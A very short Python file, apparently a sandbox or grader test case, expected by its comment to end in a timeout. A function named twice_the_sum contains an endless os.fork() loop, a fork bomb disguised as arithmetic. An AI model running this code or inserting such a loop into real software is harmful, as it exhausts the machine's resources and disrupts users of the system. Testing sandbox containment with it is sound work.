# Ends as: error no_result timeout.
import os


def twice_the_sum(x):
    while True:
        os.fork()
